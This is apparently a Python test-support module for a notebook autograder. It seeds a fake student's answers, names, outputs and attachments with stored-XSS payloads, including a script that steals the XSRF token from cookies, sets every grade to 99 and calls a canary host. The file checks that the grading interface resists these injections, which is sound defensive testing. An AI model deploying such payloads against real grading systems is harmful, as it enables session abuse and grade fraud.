"""A class whose one student wrote all that `hostile_prose` knows: in answers, pictures, outputs and added cells."""

import http.server
import pathlib
import threading

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

from autograder.authoring.build import build, notebook_text
from autograder.authoring.lesson import read_lesson
from autograder.authoring.notebooks import released_notebook
from autograder.classroom.gradebook import Gradebook
from autograder.classroom.opening import open_class
from autograder.classroom.recorder import Recorder
from autograder.utils.course_paths import lesson_files
from autograder.utils.files import write_whole
from tests.support.graded_class import NAME, receipt_of
from tests.support.hostile_prose import ATTACHMENTS, OUTPUTS, PROSE, aimed
from tests.support.mini_course import LESSON, make_course

STUDENT = "o'neil (@x), + y"
NAMED = "<b>Ann</b> \" onclick='window.hacked=1'"
# what an attacker wants: a mark to be seen, and full marks for everybody who is graded on this page
RUN = (
    "window.hacked=1;document.title=`hacked`;fetch(`ELSEWHERE/ran`);fetch(`/formgrader/api/grades?submission_id=`+"
    "submission_id).then(r=>r.json()).then(all=>all.forEach(g=>fetch(`/formgrader/api/grade/`+g.id,{method:`PUT`,"
    "headers:{[`X-XSRFToken`]:document.cookie.split(`_xsrf=`)[1]},body:JSON.stringify({manual_score:99})})))"
)


class Canary(http.server.ThreadingHTTPServer):
    """A server elsewhere on this machine that remembers what was asked of it."""

    daemon_threads = True

    def __init__(self):
        super().__init__(("127.0.0.1", 0), _Listener)
        self.asked, self.address = [], f"http://127.0.0.1:{self.server_address[1]}"
        threading.Thread(target=self.serve_forever, daemon=True).start()


class _Listener(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.server.asked.append(self.path)
        self.send_error(404)

    def log_message(self, *_):
        pass


def lesson_of_answers(course: pathlib.Path):
    """Give the small lesson one answer in prose for each payload, build it and return it."""
    prose = "".join(
        f'\n# %% [markdown]\n# Question {number}: what is $x^{{{number}}}$?\n\n# %% [markdown] answer="a{number}" '
        "points=1\n# Nothing.\n"
        for number in range(len(PROSE))
    )
    lesson_files(course)[0].write_text(LESSON + prose, encoding="utf-8")
    build(course)
    return read_lesson(lesson_files(course)[0])


def hostile_class(root: pathlib.Path, elsewhere: str):
    """Grade the hostile student as `acml grade` records work; return the lesson and the recorder.

    Args:
        root: Where course and class go.
        elsewhere: Address of a server that nothing may be asked of.
    """
    lesson = lesson_of_answers(make_course(root))
    classroom = open_class(root / "class")
    receipt = receipt_of(lesson, STUDENT, "x-", _aimed("<script>RUN</script>", elsewhere))
    given = next(iter(lesson.exercises.values())).grade_id
    receipt.outputs = {given: _outputs(elsewhere)}
    receipt.write(classroom.receipt_path(NAME, STUDENT))
    write_whole(classroom.submitted_path(NAME, STUDENT), notebook_text(_answered(lesson, elsewhere)))
    recorder = Recorder(Gradebook(classroom), lesson)
    recorder.record(receipt)
    assert recorder.failures == {}
    with recorder.gradebook.opened() as gradebook:
        # people choose their names on a learning platform
        gradebook.update_or_create_student(STUDENT, first_name=NAMED, last_name=_aimed(PROSE["script"], elsewhere))
    return lesson, recorder


def add_what_earlier_versions_left(root: pathlib.Path, elsewhere: str) -> None:
    """Put outputs of every kind and added cells into the notebook that the formgrader shows, as it lies on disk."""
    path = root / "class" / "autograded" / STUDENT / NAME / f"{NAME}.ipynb"
    notebook = nbformat.read(path, as_version=4)
    notebook.metadata.widgets = {"application/vnd.jupyter.widget-state+json": {"state": {}}}
    notebook.cells.append(new_code_cell("'<script>'", outputs=_outputs(elsewhere, isolated=True)))
    attachments = _attachments(elsewhere)
    notebook.cells += [new_markdown_cell(_aimed(text, elsewhere), attachments=attachments) for text in PROSE.values()]
    path.chmod(0o644)
    nbformat.write(notebook, path)


def _answered(lesson, elsewhere):
    notebook, payloads = released_notebook(lesson), list(PROSE.values())
    for cell in notebook.cells:
        if cell.id in lesson.answers:
            cell.source = f"Answer {cell.id}: {_aimed(payloads[int(cell.id[1:])], elsewhere)}"
            cell.attachments = _attachments(elsewhere)
    return notebook


def _outputs(elsewhere, *, isolated=False) -> list:
    metadata = {kind: {"isolated": isolated, "width": "1 onerror=RUN"} for kind in OUTPUTS}
    shown = [
        new_output("display_data", data={kind: _aimed(text, elsewhere)}, metadata=metadata)
        for kind, text in OUTPUTS.items()
    ]
    trace = _aimed("<script>RUN</script>", elsewhere)
    return [*shown, new_output("stream", text=trace), new_output("error", ename=trace, evalue=trace, traceback=[trace])]


def _attachments(elsewhere) -> dict:
    return {
        name: {kind: _aimed(data, elsewhere) for kind, data in kinds.items()} for name, kinds in ATTACHMENTS.items()
    }


def _aimed(text, elsewhere) -> str:
    return aimed(text, RUN, elsewhere).replace("ELSEWHERE", elsewhere)
